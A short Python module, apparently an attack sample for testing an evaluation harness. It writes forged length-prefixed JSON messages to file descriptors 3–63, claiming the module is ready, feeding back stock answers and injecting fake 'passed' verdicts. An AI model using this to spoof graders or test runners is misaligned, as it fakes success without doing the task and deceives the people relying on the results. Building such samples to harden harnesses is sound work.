"""Writes forged messages to every descriptor: that the module is ready, and then good answers to all that may be asked."""

import json
import os
import struct


def attack():
    print("attack: forged", flush=True)
    one = {"n": ["<f8", "AAAAAAAA8D8="]}
    answers = [["ready", 1, None], *[["return", answer] for answer in (None, True, False, 1.0, one, {"h": 1})] * 50]
    answers += [["passed"], ["result", None], {"verdict": "passed"}, ["callback", 0, {"t": []}, {"d": []}]]
    frames = b"".join(struct.pack(">I", len(text)) + text for text in [json.dumps(a).encode() for a in answers])
    for number in range(3, 64):
        try:
            os.write(number, frames)
        except OSError:
            pass
